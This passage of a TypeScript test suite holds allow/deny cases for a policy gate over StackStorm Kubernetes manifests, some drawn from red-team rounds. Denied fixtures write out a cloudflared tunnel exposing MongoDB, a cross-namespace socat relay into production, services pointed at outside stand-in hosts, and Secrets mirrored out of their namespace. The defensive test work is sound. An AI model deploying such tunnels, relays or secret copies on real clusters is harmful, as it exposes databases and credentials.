    resources: () => [{ apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'RoleBinding', metadata: meta('oncall'), roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'view' }, subjects: [{ kind: 'Group', name: 'sre-oncall' }] }],
    expected: 'allowed',
  },
  // Status subresources change no spec; a Role grants nothing on cluster-scoped kinds (fresh16-rbac.ts).
  ...rows('ST2-OPS-006', [
    ['production', 'a Role letting every service account write deployments/status and KEDA\'s statuses is allowed', () => everySa('Role', [{ apiGroups: ['apps', 'keda.sh'], resources: ['deployments/status', '*/status'], verbs: ['update', 'patch'] }]), 'allowed'],
    ['production', 'the same Role with deployments/scale is denied', () => everySa('Role', [{ apiGroups: ['apps'], resources: ['deployments/status', 'deployments/scale'], verbs: ['patch'] }]), deny('ST2-OPS-006', { field: 'subjects.0', message: 'right=scale workloads' })],
    ['production', 'a Role naming SidecarSets and nodes/proxy for every service account is allowed', () => everySa('Role', [{ apiGroups: ['apps.kruise.io', ''], resources: ['sidecarsets', 'nodes/proxy'], verbs: ['get', 'create'] }]), 'allowed'],
    ['production', 'the same rights in a ClusterRole bound cluster-wide are denied', () => everySa('ClusterRole', [{ apiGroups: ['apps.kruise.io', ''], resources: ['sidecarsets', 'nodes/proxy'], verbs: ['get', 'create'] }]), deny('ST2-OPS-006', { field: 'subjects.0', message: 'subject=system:serviceaccounts' })],
  ]),
  ...rows('ST2-OPS-007', [
    ['production', 'st2web proxying /auth to an outside host is denied', () => [...haWorkload('st2web', 2, { container: { envFrom: [{ configMapRef: { name: 'st2-urls' } }] } }), configMap('st2-urls', { ST2_AUTH_URL: 'https://login.example.net/' })], deny('ST2-OPS-007', { field: 'spec.template.spec.containers.0.envFrom.0', message: 'host=login.example.net' })],
    ['production', 'st2web proxying /auth to the in-cluster FQDN is allowed', () => [...haWorkload('st2web', 2, { container: { env: [{ name: 'ST2_AUTH_URL', value: 'http://st2auth.st2.svc.cluster.local:9100/' }] } })], 'allowed'],
  ]),
  ...rows('ST2-OPS-008', [
    ['production', 'a cloudflared tunnel to MongoDB is denied', () => [...haWorkload('mongodb', 3, { kind: 'StatefulSet' }), service('mongodb', 'mongodb'), workload('db-tunnel', { container: { image: 'cloudflare/cloudflared:2024.12.2', command: ['cloudflared', 'tunnel', '--url', 'tcp://mongodb:27017'] } })], deny('ST2-OPS-008', { message: 'store=mongodb' })],
    ['production', 'a cloudflared tunnel to st2web is allowed', () => [...haWorkload('st2web'), service('st2web', 'st2web'), workload('web-tunnel', { container: { image: 'cloudflare/cloudflared:2024.12.2', command: ['cloudflared', 'tunnel', 'run', '--url', 'https://st2web:443'] } })], 'allowed'],
  ]),
  ...rows('ST2-OPS-009', [
    ['production', 'MongoDB 6.0 is denied', () => haWorkload('mongodb', 3, { kind: 'StatefulSet', container: { image: 'mongo:6.0.13', args: ['--replSet', 'rs0', '--keyFile', '/k'] } }), deny('ST2-OPS-009', { field: 'spec.template.spec.containers.0.image', message: 'version=6.0' })],
    ['production', 'MongoDB 4.4 is allowed', () => haWorkload('mongodb', 3, { kind: 'StatefulSet', container: { image: 'mongo:4.4.29', args: ['--replSet', 'rs0', '--keyFile', '/k'] } }), 'allowed'],
  ]),
  ...rows('ST2-OPS-010', [
    ['production', 'an httpGet liveness probe on st2api is denied', () => haWorkload('st2api', 2, { container: { livenessProbe: { httpGet: { path: '/v1/actions', port: 9101 } } } }), deny('ST2-OPS-010', { field: 'spec.template.spec.containers.0.livenessProbe.httpGet', message: 'probe=livenessProbe' })],
    ['production', 'a tcpSocket probe on st2api is allowed', () => haWorkload('st2api', 2, { container: { livenessProbe: { tcpSocket: { port: 9101 } } } }), 'allowed'],
  ]),
  ...rows('ST2-OPS-011', [
    ['production', 'a Secret mounted in st2web\'s web root is denied', () => haWorkload('st2web', 2, { container: { volumeMounts: [{ name: 'k', mountPath: '/opt/stackstorm/static/webui/keys' }] }, pod: { volumes: [{ name: 'k', secret: { secretName: 'st2-ssh' } }] } }), deny('ST2-OPS-011', { field: 'spec.template.spec.containers.0.volumeMounts.0.mountPath' })],
    ['production', 'st2web\'s TLS Secret mounted under /etc/ssl is allowed', () => haWorkload('st2web', 2, { container: { volumeMounts: [{ name: 'tls', mountPath: '/etc/ssl/st2' }] }, pod: { volumes: [{ name: 'tls', secret: { secretName: 'st2web' } }] } }), 'allowed'],
  ]),
  ...rows('ST2-OPS-012', [
    ['dev', 'a dev socat relay to a Service in a production namespace is denied', () => [workload('relay', { container: { image: 'alpine/socat:1.8.0.0', args: ['TCP-LISTEN:27017,fork', 'TCP:mongodb.st2-prod.svc.cluster.local:27017'] } })], deny('ST2-OPS-012', { message: 'namespace=st2-prod' })],
    ['dev', 'a dev socat relay inside its own namespace is allowed', () => [workload('relay', { container: { image: 'alpine/socat:1.8.0.0', args: ['TCP-LISTEN:8080,fork', 'TCP:backend.st2-dev.svc.cluster.local:8080'] } })], 'allowed'],
  ]),
  ...rows('ST2-OPS-013', [
    ['production', "st2's message bus at an outside host (an @ in the password) is denied, naming the host only", () => [configMap('st2-config', { 'st2.user.conf': '[messaging]\nurl = amqp://admin:p@ss@mq.example.net:5672\n' })], deny('ST2-OPS-013', { message: 'host=mq.example.net' })],
    ['production', "st2's message bus at its in-cluster Service is allowed", () => [configMap('st2-config', { 'st2.user.conf': `[messaging]\nurl = amqp://admin:{{ .pw }}@rabbitmq.${NAMESPACE}.svc.cluster.local:5672\n` })], 'allowed'],
  ]),
  {
    name: "a PushSecret copying a Secret st2 uses to an unnamed store is denied",
    rule: 'ST2-OPS-014',
    environment: 'production',
    resources: () => [
      workload('st2api', { container: { env: [{ name: 'PW', valueFrom: { secretKeyRef: { name: 'st2-auth', key: 'password' } } }] } }),
      pushSecret('st2-auth'),
    ],
    expected: deny('ST2-OPS-014', { message: 'secret=st2-auth' }),
  },
  {
    name: 'a PushSecret of a Secret nothing of st2 uses is allowed',
    rule: 'ST2-OPS-014',
    environment: 'production',
    resources: () => [pushSecret('team-webhook')],
    expected: 'allowed',
  },
  ...rows('ST2-OPS-020', [
    ['dev', "a dev render's Namespace object for st2-prod is denied", () => [namespaceObject('st2-prod')], deny('ST2-OPS-020', { field: 'metadata.name', message: 'namespace=st2-prod' })],
    ['dev', "a dev render's Namespace object for st2-dev is allowed", () => [namespaceObject('st2-dev')], 'allowed'],
  ]),
  ...rows('ST2-OPS-021', [
    ['production', 'a fail-closed webhook over every namespace\'s pods, served from outside the render, is denied', () => [podWebhook('Fail')], deny('ST2-OPS-021', { field: 'webhooks.0.clientConfig', message: 'why=fails closed on st2\'s pods' })],
    ['production', 'the same webhook with failurePolicy Ignore is allowed', () => [podWebhook('Ignore')], 'allowed'],
  ]),
  // --- ST2-SEC-009: a value the secret search cannot finish ------------------------------------
  ...rows('ST2-SEC-009', [
    ['production', 'a gzip blob decompressing past the search budget is denied, naming the key', () => [{ apiVersion: 'v1', kind: 'ConfigMap', metadata: meta('blob'), binaryData: { 'key.gz': gzipSync(Buffer.alloc(300 * 1024, 0x20)).toString('base64') } }], deny('ST2-SEC-009', { field: 'binaryData.key.gz', message: 'key=key.gz' })],
    ['dev', 'the same blob warns in dev', () => [{ apiVersion: 'v1', kind: 'ConfigMap', metadata: meta('blob'), binaryData: { 'key.gz': gzipSync(Buffer.alloc(300 * 1024, 0x20)).toString('base64') } }], warn('ST2-SEC-009')],
    ['staging', 'a text nested past the last layer the search follows is denied', () => [configMap('blob', { key: [1, 2, 3, 4, 5].reduce((t) => b64(t), 'a value nested five times') })], deny('ST2-SEC-009', { message: 'still encoded after 4 nested layers' })],
    ['production', 'a large plain dashboard (400 KiB of JSON with escapes) is searched and allowed', () => [configMap('dashboards', { 'st2.json': JSON.stringify({ panels: Array.from({ length: 2000 }, (_, i) => ({ id: i, title: `Panel ${i}`, expr: `sum(rate(st2_action_executions_total{status="failed",panel="${i}"}[5m]))`, description: 'line one\nline two' })) }) })], 'allowed'],
  ]),
  // --- ST2-SEC-012: ESO templates computing on literals --------------------------------------------
  ...rows('ST2-SEC-012', [
    ['production', 'an ExternalSecret template applying a function the gate does not evaluate to literals is denied', () => [{ apiVersion: 'external-secrets.io/v1', kind: 'ExternalSecret', metadata: meta('st2-auth'), spec: { secretStoreRef: { kind: 'ClusterSecretStore', name: 'st2-dev-store' }, target: { name: 'st2-auth', template: { engineVersion: 'v2', data: { password: '{{ "c2VjcmV0" | frobnicate }}' } } }, data: [{ secretKey: 'pw', remoteRef: { key: 'stackstorm/st2-auth', property: 'password' } }] } }], deny('ST2-SEC-012', { field: 'spec.target.template.data.password', message: 'key=password' })],
    ['production', 'an ExternalSecret template transforming the store\'s value is allowed', () => [{ apiVersion: 'external-secrets.io/v1', kind: 'ExternalSecret', metadata: meta('st2-auth'), spec: { secretStoreRef: { kind: 'ClusterSecretStore', name: 'st2-dev-store' }, target: { name: 'st2-auth', template: { engineVersion: 'v2', data: { password: '{{ .pw | trim | frobnicate }}' } } }, data: [{ secretKey: 'pw', remoteRef: { key: 'stackstorm/st2-auth', property: 'password' } }] } }], 'allowed'],
  ]),
  // --- ST2-SEC-010: st2's Secrets copied out of st2's namespaces ---------------------------------
  {
    name: 'a reflector auto-mirror of an st2 Secret into every namespace is denied',
    rule: 'ST2-SEC-010',
    environment: 'production',
    resources: () => [
      ...haWorkload('st2api'),
      { ...secret('st2-auth', { stringData: { password: 'fresh-and-random' } }), metadata: meta('st2-auth', { annotations: { 'reflector.v1.k8s.emberstack.com/reflection-allowed': 'true', 'reflector.v1.k8s.emberstack.com/reflection-auto-enabled': 'true' } }) },
    ],
    expected: deny('ST2-SEC-010', { message: 'to=every namespace' }),
  },
  {
    name: 'an ExternalSecret in a shared namespace reading the production store is denied',
    rule: 'ST2-SEC-010',
    environment: 'production',
    resources: () => [
      ...haWorkload('st2api'),
      { apiVersion: 'external-secrets.io/v1', kind: 'ExternalSecret', metadata: { name: 'probe', namespace: 'monitoring' }, spec: { secretStoreRef: { kind: 'ClusterSecretStore', name: 'st2-production' }, target: { name: 'probe' }, data: [{ secretKey: 'pw', remoteRef: { key: 'stackstorm/st2-auth', property: 'password' } }] } },
    ],
    expected: deny('ST2-SEC-010', { message: 'to=monitoring' }),
  },
  {
    name: "a replicator copy into st2's own namespace, listed by name, is allowed",
    rule: 'ST2-SEC-010',
    environment: 'dev',
    resources: () => [
      ...haWorkload('st2api'),
      { ...secret('st2-auth', { stringData: { password: 'fresh-and-random' } }), metadata: meta('st2-auth', { annotations: { 'replicator.v1.mittwald.de/replicate-to': NAMESPACE } }) },
      // Merge beside the Secret's own key: one writer per key (ST2-OPS-072).
      { apiVersion: 'external-secrets.io/v1', kind: 'ExternalSecret', metadata: meta('st2-auth'), spec: { secretStoreRef: { kind: 'ClusterSecretStore', name: 'st2-dev-store' }, target: { name: 'st2-auth', creationPolicy: 'Merge' }, data: [{ secretKey: 'pw', remoteRef: { key: 'stackstorm/st2-auth', property: 'password' } }] } },
    ],
    expected: 'allowed',
  },
  ...rows('ST2-OPS-072', [
    ['staging', 'a Secret committed beside the ExternalSecret that owns it is denied', () => [secret('rabbitmq', { stringData: { 'rabbitmq-password': 'Qm7kept21x9TzW4pLr' } }), { apiVersion: 'external-secrets.io/v1', kind: 'ExternalSecret', metadata: meta('rabbitmq'), spec: { secretStoreRef: { kind: 'ClusterSecretStore', name: 'st2-dev-store' }, data: [{ secretKey: 'rabbitmq-password', remoteRef: { key: 'stackstorm/rabbitmq', property: 'password' } }] } }], deny('ST2-OPS-072', { field: 'metadata.name', message: 'external_secret=rabbitmq' })],
    ['staging', 'an ExternalSecret merging its own key into a committed Secret is allowed', () => [secret('rabbitmq', { stringData: { 'rabbitmq-erlang-cookie-file': '/var/lib/rabbitmq/.erlang.cookie' } }), { apiVersion: 'external-secrets.io/v1', kind: 'ExternalSecret', metadata: meta('rabbitmq'), spec: { secretStoreRef: { kind: 'ClusterSecretStore', name: 'st2-dev-store' }, target: { creationPolicy: 'Merge' }, data: [{ secretKey: 'rabbitmq-password', remoteRef: { key: 'stackstorm/rabbitmq', property: 'password' } }] } }], 'allowed'],
  ]),
  ...rows('ST2-OPS-018', [
    ['staging', 'a ConfigMap st2api mounts, made a PreSync hook, is denied', () => [workload('st2api'), { apiVersion: 'v1', kind: 'ConfigMap', metadata: meta('st2-rbac-on', { annotations: { 'argocd.argoproj.io/hook': 'PreSync' } }), data: { 'st2.user.conf': '[rbac]\nenable = True\nbackend = default\n' } }], deny('ST2-OPS-018', { field: 'metadata.annotations.argocd.argoproj.io/hook', message: 'hook=PreSync' })],
    ['production', 'a ConfigMap only a hook uses, made a hook, is allowed', () => [{ apiVersion: 'v1', kind: 'ConfigMap', metadata: meta('smoke-script', { annotations: { 'argocd.argoproj.io/hook': 'PreSync' } }), data: { 'run.sh': 'nc -z st2api 9101' } }], 'allowed'],
  ]),
  ...rows('ST2-OPS-019', [
    ['production', "st2's Namespace handed to another Argo CD instance is denied", () => [{ apiVersion: 'v1', kind: 'Namespace', metadata: { name: NAMESPACE, labels: { 'pod-security.kubernetes.io/enforce': 'baseline', 'argocd.argoproj.io/managed-by': 'team-argocd' } } }], deny('ST2-OPS-019', { field: 'metadata.labels.argocd.argoproj.io/managed-by', message: 'to=team-argocd' })],
    ['production', 'an HNC HierarchyConfiguration without a parent is allowed', () => [{ apiVersion: 'hnc.x-k8s.io/v1alpha2', kind: 'HierarchyConfiguration', metadata: meta('hierarchy'), spec: { allowCascadingDeletion: false } }], 'allowed'],
  ]),
  ...rows('ST2-OPS-025', [
    ['dev', "st2's API URL pointing at production's services from another environment is denied", () => [workload('st2actionrunner', { container: { env: [{ name: 'ST2_API_URL', value: 'http://st2api.st2-prod.svc:9101/' }] } })], deny('ST2-OPS-025', { field: 'spec.template.spec.containers.0.env.0', message: 'namespace=st2-prod' })],
    ['dev', "st2's API URL naming its own namespace's Service is allowed", () => [workload('st2scheduler'), workload('st2actionrunner', { container: { env: [{ name: 'ST2_API_URL', value: `http://st2api.${NAMESPACE}.svc:9101/` }] } })], 'allowed'],
  ]),
  ...rows('ST2-OPS-026', [
    ['staging', 'a hand-written EndpointSlice for st2auth is denied', () => [{ apiVersion: 'discovery.k8s.io/v1', kind: 'EndpointSlice', metadata: meta('st2auth-static', { labels: { 'kubernetes.io/service-name': 'st2auth' } }), addressType: 'IPv4', endpoints: [{ addresses: ['198.51.100.7'] }] }], deny('ST2-OPS-026', { field: 'metadata.labels.kubernetes.io/service-name', message: 'service=st2auth' })],
    ['production', 'an EndpointSlice for an outside LDAP Service is allowed', () => [{ apiVersion: 'discovery.k8s.io/v1', kind: 'EndpointSlice', metadata: meta('ldap-1', { labels: { 'kubernetes.io/service-name': 'ldap' } }), addressType: 'IPv4', endpoints: [{ addresses: ['198.51.100.8'] }] }], 'allowed'],
  ]),
  ...rows('ST2-SEC-011', [
    ['production', "production's ExternalSecret reading staging's secret store is denied", () => [{ apiVersion: 'external-secrets.io/v1', kind: 'ExternalSecret', metadata: { name: 'st2-auth', namespace: 'st2-prod' }, spec: { secretStoreRef: { kind: 'ClusterSecretStore', name: 'st2-staging' }, target: { name: 'st2-auth' } } }], deny('ST2-SEC-011', { field: 'spec.secretStoreRef', message: 'store=st2-staging' })],
    ['staging', "staging's ExternalSecret reading staging's secret store is allowed", () => [{ apiVersion: 'external-secrets.io/v1', kind: 'ExternalSecret', metadata: { name: 'st2-auth', namespace: 'st2-staging' }, spec: { secretStoreRef: { kind: 'ClusterSecretStore', name: 'st2-staging' }, target: { name: 'st2-auth' } } }], 'allowed'],
  ]),
  ...fresh7Cases(),
  ...fresh8PodCases(),
  ...fresh8Cases(),
  ...fresh9StoreCases(),
  ...fresh9ClusterCases(),
  ...fresh9JobCases(),
  ...holesCases(),
  ...podStartCases(),
  ...syncOrderCases(),
  ...storeFormationCases(),
  ...storeStartupCases(),
  ...fresh11RuleCases(),
  ...fresh12RuleCases(),
  ...fresh13StoresRuleCases(),
  ...fresh13RuleCases(),
  ...fresh15TlsRuleCases(),
  ...fresh16St2optRuleCases(),
  ...fresh17CfgRuleCases(),
  ...fresh18KvRuleCases(),
  ...fresh16RunsRuleCases(),
  ...fresh17EnvRuleCases(),
  ...fresh16ShapeRuleCases(),
  ...fresh19DupRuleCases(),
];

/** The eleventh red team's Argo CD sync orders (test/policy/redteam/fresh11-flow.ts has the overlays). */
function syncOrderCases(): RuleCase[] {
  const prod = 'production';
  const keys: Manifest = { apiVersion: 'external-secrets.io/v1', kind: 'ExternalSecret', metadata: meta('st2-keys', { annotations: { 'argocd.argoproj.io/sync-wave': '-1' } }), spec: { secretStoreRef: { kind: 'ClusterSecretStore', name: 'st2-dev-store' }, target: { name: 'st2-keys' }, data: [{ secretKey: 'k', remoteRef: { key: 'stackstorm/keys', property: 'k' } }] } };
  const timers = (wave: string): Manifest[] => [workload('st2timersengine', { annotations: { 'argocd.argoproj.io/sync-wave': wave }, pod: { volumes: [{ name: 'k', secret: { secretName: 'st2-keys' } }] } }), keys];
  const job = (hook: string, spec: Manifest = {}): Manifest[] => [
    { apiVersion: 'batch/v1', kind: 'Job', metadata: meta('st2-register-content', { annotations: { 'argocd.argoproj.io/hook': hook } }), spec: { ...spec, template: { spec: { restartPolicy: 'OnFailure', containers: [{ name: 'r', image: 'stackstorm/st2actionrunner:3.8.1', command: ['st2-register-content', '--register-all'], resources: { limits: { cpu: '500m', memory: '512Mi' } } }] } } } },
  ];
  return [
    ...rows('ST2-OPS-067', [
      [prod, 'a workload in a wave before the Secret it mounts is denied', () => timers('-3'), deny('ST2-OPS-067', { message: 'needs=Secret/st2-keys' })],
      [prod, 'a workload after the Secret it mounts is allowed', () => timers('0'), 'allowed'],
    ]),
    ...rows('ST2-OPS-068', [
      [prod, 'st2-register-content given 5 seconds is denied', () => job('PostSync', { activeDeadlineSeconds: 5 }), deny('ST2-OPS-068', { message: 'seconds=5' })],
      [prod, 'st2-register-content given 30 minutes is allowed', () => job('PostSync', { activeDeadlineSeconds: 1800, backoffLimit: 3 }), 'allowed'],
    ]),
  ];
}

/** The tenth red team's pod holes (test/policy/redteam/fresh11-pods.ts has the overlays). */
function podStartCases(): RuleCase[] {
  const prod = 'production';
  const web = (container: Manifest, pod: Manifest = {}): Manifest[] => haWorkload('st2web', 2, { container, pod });
  const claim: Manifest = { apiVersion: 'v1', kind: 'PersistentVolumeClaim', metadata: meta('packs'), spec: { accessModes: ['ReadWriteOnce'], resources: { requests: { storage: '5Gi' } } } };
  const mounting = (app: string, replicas: number): Manifest[] => [workload(app, { replicas, pod: { volumes: [{ name: 'p', persistentVolumeClaim: { claimName: 'packs' } }] } }), claim];
  const timers = (mountPath: string): Manifest[] => [workload('st2timersengine', { container: { volumeMounts: [{ name: 's', mountPath }] }, pod: { volumes: [{ name: 's', emptyDir: {} }] } })];
  const probe = (command: string[]): Manifest[] => haWorkload('st2rulesengine', 2, { container: { livenessProbe: { exec: { command } } } });
  const selectorEdit = (file: string): Readonly<Record<number, readonly FieldEdit[]>> => ({ 0: [{ pointer: '/spec/selector/matchLabels/team', file, line: 5, by: 'commonLabels' }] });
  const api = (): Manifest[] => haWorkload('st2api', 2);
  return [
    ...rows('ST2-OPS-062', [
      // Docker Hub's bitnami/ keeps no versioned tags since 2025-08-28 (bitnami/containers#83267).
      [prod, 'etcd from bitnami/etcd:3.5.17 (tag moved to bitnamilegacy) is denied', () => haWorkload('etcd', 3, { kind: 'StatefulSet', container: { image: 'bitnami/etcd:3.5.17' } }), deny('ST2-OPS-062', { message: 'bitnamilegacy/' })],
      [prod, 'etcd from bitnamilegacy/etcd:3.5.17 is allowed', () => haWorkload('etcd', 3, { kind: 'StatefulSet', container: { image: 'bitnamilegacy/etcd:3.5.17' } }), 'allowed'],
      [prod, 'runAsNonRoot on st2web (nginx starts as root) is denied', () => web({}, { securityContext: { runAsNonRoot: true } }), deny('ST2-OPS-062', { message: 'without a USER' })],
      [prod, 'runAsNonRoot with runAsUser 1000 on st2api is allowed', () => haWorkload('st2api', 2, { pod: { securityContext: { runAsNonRoot: true, runAsUser: 1000 } } }), 'allowed'],
      // st2web's image writes its nginx config under /etc/nginx/conf.d (root's) before starting nginx.
      [prod, 'runAsUser 101 on st2web is denied', () => web({}, { securityContext: { runAsNonRoot: true, runAsUser: 101 } }), deny('ST2-OPS-062', { message: 'runAsUser 101' })],
    ]),
    ...rows('ST2-OPS-063', [
      [prod, 'a paused Deployment is denied in production', () => haWorkload('st2api', 2).map((m) => (m['kind'] === 'Deployment' ? { ...m, spec: { ...(m['spec'] as Manifest), paused: true } } : m)), deny('ST2-OPS-063', { field: 'spec.paused' })],
      [prod, 'an unpaused Deployment is allowed', () => haWorkload('st2api', 2).map((m) => (m['kind'] === 'Deployment' ? { ...m, spec: { ...(m['spec'] as Manifest), paused: false } } : m)), 'allowed'],
    ]),
    ...rows('ST2-OPS-064', [
      [prod, 'a ReadWriteOnce claim for two runners is denied', () => mounting('st2actionrunner', 2), deny('ST2-OPS-064', { message: 'claim=packs' })],
      [prod, 'a ReadWriteOnce claim for one pod is allowed', () => mounting('st2timersengine', 1), 'allowed'],
    ]),
    ...rows('ST2-OPS-065', [
      [prod, "an emptyDir over st2's virtualenv is denied", () => timers('/opt/stackstorm/st2'), deny('ST2-OPS-065', { message: 'mount=/opt/stackstorm/st2' })],
      [prod, 'an emptyDir beside it is allowed', () => timers('/opt/stackstorm/scratch'), 'allowed'],
    ]),
    ...rows('ST2-OPS-066', [
      [prod, 'a liveness probe running false is denied', () => probe(['false']), deny('ST2-OPS-066', { message: 'probe=livenessProbe' })],
      [prod, 'a liveness probe reading /proc is allowed', () => probe(['sh', '-c', 'test -d /proc/1']), 'allowed'],
    ]),
    ...rows('ST2-OPS-071', [
      [prod, 'an st2 service whose command is sleep is denied', () => haWorkload('st2rulesengine', 2, { container: { command: ['sleep', 'infinity'] } }), deny('ST2-OPS-071', { message: 'role=st2rulesengine' })],
      ['dev', 'an st2 service given --version is denied in dev too', () => haWorkload('st2rulesengine', 1, { container: { command: ['/opt/stackstorm/st2/bin/st2rulesengine', '--version'] } }), deny('ST2-OPS-071', { message: 'runs=st2rulesengine --version' })],
      [prod, 'an st2 service started through env is allowed', () => haWorkload('st2rulesengine', 2, { container: { command: ['env', 'TZ=UTC', '/opt/stackstorm/st2/bin/st2rulesengine'] } }), 'allowed'],
    ]),
    { name: "a selector an overlay rewrote over the base's is denied", rule: 'ST2-REP-031', environment: prod, edits: selectorEdit('overlays/x/kustomization.yaml'), resources: api, expected: deny('ST2-REP-031', { field: 'spec.selector' }) },
    { name: "a selector the file's own kustomization set is allowed", rule: 'ST2-REP-031', environment: prod, edits: selectorEdit('kustomization.yaml'), resources: api, expected: 'allowed' },
  ];
}

/** The ninth red team's store data (test/policy/redteam/fresh9-store.ts has the overlays). */
function fresh9StoreCases(): RuleCase[] {
  const sts = (args: string[], image = 'mongo:4.4.29'): Manifest[] => haWorkload('mongodb', 3, { kind: 'StatefulSet', container: { image, args: ['--replSet', 'rs0', '--keyFile', '/k/key.txt', ...args] } });
  const withSpec = (resources: Manifest[], extra: Manifest): Manifest[] => resources.map((r) => (r['kind'] === 'StatefulSet' ? { ...r, spec: { ...(r['spec'] as Manifest), ...extra } } : r));
  return [
    ...rows('ST2-REP-021', [
      ['production', 'mongod on its claim is allowed', () => sts(['--dbpath', '/data/db']), 'allowed'],
      ['production', 'mongod moved below its claim\'s root is denied (mongod exits on a missing dbPath, then starts empty)', () => sts(['--dbpath', '/data/db/st2']), deny('ST2-REP-021', { message: 'volume=moved within its claim' })],
      ['production', 'mongod --dbpath off its claim is denied', () => sts(['--dbpath=/tmp/db']), deny('ST2-REP-021', { message: 'volume=container-filesystem' })],
    ]),
    ...rows('ST2-REP-022', [
      ['production', 'PVC retention Retain is allowed', () => withSpec(sts([]), { persistentVolumeClaimRetentionPolicy: { whenDeleted: 'Retain', whenScaled: 'Retain' } }), 'allowed'],
      ['staging', 'PVC retention Delete on MongoDB is denied', () => withSpec(sts([]), { persistentVolumeClaimRetentionPolicy: { whenScaled: 'Delete' } }), deny('ST2-REP-022')],
    ]),
    ...rows('ST2-REP-023', [
      ['production', 'mongod with its journal is allowed', () => sts([]), 'allowed'],
      ['production', 'mongod --nojournal is denied', () => sts(['--nojournal']), deny('ST2-REP-023', { message: 'setting=--nojournal' })],
    ]),
    ...rows('ST2-REP-024', [
      ['production', 'MongoDB 4.4 is within the versions', () => sts([]), 'allowed'],
      ['dev', 'MongoDB 4.2 below the versions is denied', () => sts([], 'mongo:4.2.24'), deny('ST2-REP-024', { message: 'problem=below 4.4' })],
    ]),
    ...rows('ST2-REP-025', [
      ['production', 'a MongoDB rollout one member at a time is allowed', () => withSpec(sts([]), { updateStrategy: { type: 'RollingUpdate', rollingUpdate: { maxUnavailable: 1 } } }), 'allowed'],
      ['production', 'a MongoDB rollout of 2 of 3 members at once is denied', () => withSpec(sts([]), { updateStrategy: { type: 'RollingUpdate', rollingUpdate: { maxUnavailable: '50%' } } }), deny('ST2-REP-025', { message: 'unavailable=2' })],
    ]),
    ...rows('ST2-OPS-038', [
      ['production', 'a budget letting one member go is allowed', () => sts([]), 'allowed'],
      ['production', 'a budget allowing no disruption is denied', () => sts([]).map((r) => (r['kind'] === 'PodDisruptionBudget' ? { ...r, spec: { maxUnavailable: 0, selector: (r['spec'] as Manifest)['selector'] } } : r)), deny('ST2-OPS-038', { message: 'problem=the budget allows no disruption' })],
    ]),
    ...rows('ST2-OPS-039', [
      ['production', 'MongoDB on cluster DNS is allowed', () => sts([]), 'allowed'],
      ['staging', 'MongoDB on the node resolver is denied', () => sts([]).map((r) => (r['kind'] === 'StatefulSet' ? { ...r, spec: { ...(r['spec'] as Manifest), template: { ...((r['spec'] as Manifest)['template'] as Manifest), spec: { ...(((r['spec'] as Manifest)['template'] as Manifest)['spec'] as Manifest), dnsPolicy: 'Default' } } } } : r)), deny('ST2-OPS-039')],
    ]),
  ];
}

function namespaceObject(name: string): Manifest {
  return { apiVersion: 'v1', kind: 'Namespace', metadata: { name, labels: { 'pod-security.kubernetes.io/enforce': 'baseline' } } };
}

function podWebhook(failurePolicy: string): Manifest {
  return {
    apiVersion: 'admissionregistration.k8s.io/v1',
    kind: 'ValidatingWebhookConfiguration',
    metadata: { name: 'image-verify' },
    webhooks: [{
      name: 'verify.example.invalid', failurePolicy, sideEffects: 'None', admissionReviewVersions: ['v1'],
      clientConfig: { service: { name: 'verifier', namespace: 'security', path: '/verify' } },
      rules: [{ apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE'], resources: ['pods'] }],
    }],
  };
}

/** An etcd StatefulSet of `replicas` members started with `flags` (etcd 3.5, v2 on), listening for peers on every address. */
function etcd(replicas: number, flags: readonly string[], env: Manifest[] = []): Manifest[] {
  return haWorkload('etcd', replicas, { kind: 'StatefulSet', container: { image: 'quay.io/coreos/etcd:v3.5.17', command: ['etcd', '--name=$(POD_NAME)', '--enable-v2=true', ...flags, '--listen-peer-urls=http://0.0.0.0:2380'], env } });
}

const threeMembers = '--initial-cluster=etcd-0=http://etcd-0.etcd:2380,etcd-1=http://etcd-1.etcd:2380,etcd-2=http://etcd-2.etcd:2380';

/** A MongoDB StatefulSet that mounts an initiation script. */
function mongo(replicas: number, script: string): Manifest[] {
  return [
    ...haWorkload('mongodb', replicas, {
      kind: 'StatefulSet',
      container: { image: 'mongo:4.4.29', args: ['--replSet', 'rs0', '--keyFile', '/data/configdb/key.txt'], volumeMounts: [{ name: 'scripts', mountPath: '/scripts' }] },
      pod: { volumes: [{ name: 'scripts', configMap: { name: 'mongodb-scripts' } }] },
    }),
    configMap('mongodb-scripts', { 'init.js': script }),
  ];
}

const rsHosts = (n: number): string => Array.from({ length: n }, (_, k) => `{ _id: ${k}, host: "mongodb-${k}.mongodb:27017" }`).join(', ');

/** A RabbitMQ StatefulSet of 3 that st2 uses, mounting rabbitmq.conf and definitions with the ha policy. */
function rabbit(conf: string): Manifest[] {
  return [
    ...haWorkload('rabbitmq', 3, {
      kind: 'StatefulSet',
      container: { image: 'rabbitmq:3.12.14', volumeMounts: [{ name: 'config', mountPath: '/etc/rabbitmq' }] },
      pod: { volumes: [{ name: 'config', configMap: { name: 'rabbitmq-config' } }] },
    }),
    configMap('rabbitmq-config', { 'rabbitmq.conf': `${conf}load_definitions = /etc/rabbitmq/definitions.json\n`, 'definitions.json': '{"policies": [{"name": "ha", "definition": {"ha-mode": "all"}}]}' }),
    configMap('st2-config', { 'st2.docker.conf': '[messaging]\nurl = amqp://st2@rabbitmq:5672\n' }),
  ];
}

/** A ZooKeeper StatefulSet of `replicas` behind a Service, and st2 coordinating on it. */
function zookeeper(replicas: number, url = 'kazoo://zookeeper:2181'): Manifest[] {
  return [
    ...haWorkload('zookeeper', replicas, { kind: 'StatefulSet', container: { image: 'zookeeper:3.9.3' } }),
    service('zookeeper', 'zookeeper'),
    configMap('st2-config', { 'st2.docker.conf': `[coordination]\nurl = ${url}\n` }),
  ];
}

/** The same manifests with more arguments for the first container of the first one. */
function withArgs(manifests: Manifest[], ...args: string[]): Manifest[] {
  const [first, ...rest] = manifests;
  const spec = (first?.['spec'] as Manifest | undefined)?.['template'] as Manifest | undefined;
  const container = ((spec?.['spec'] as Manifest | undefined)?.['containers'] as Manifest[] | undefined)?.[0];
  if (container) container['args'] = [...((container['args'] as string[] | undefined) ?? []), ...args];
  return first ? [first, ...rest] : rest;
}

/** st2timersengine reading the image's st2.conf, then `files`; st2.user.conf from a ConfigMap holding `userConf`. */
function timers(files: readonly string[], userConf = '[api]\nallow_origin = *\n', resources?: Manifest): Manifest[] {
  return [
    workload('st2timersengine', {
      container: {
        command: ['/opt/stackstorm/st2/bin/st2timersengine'],
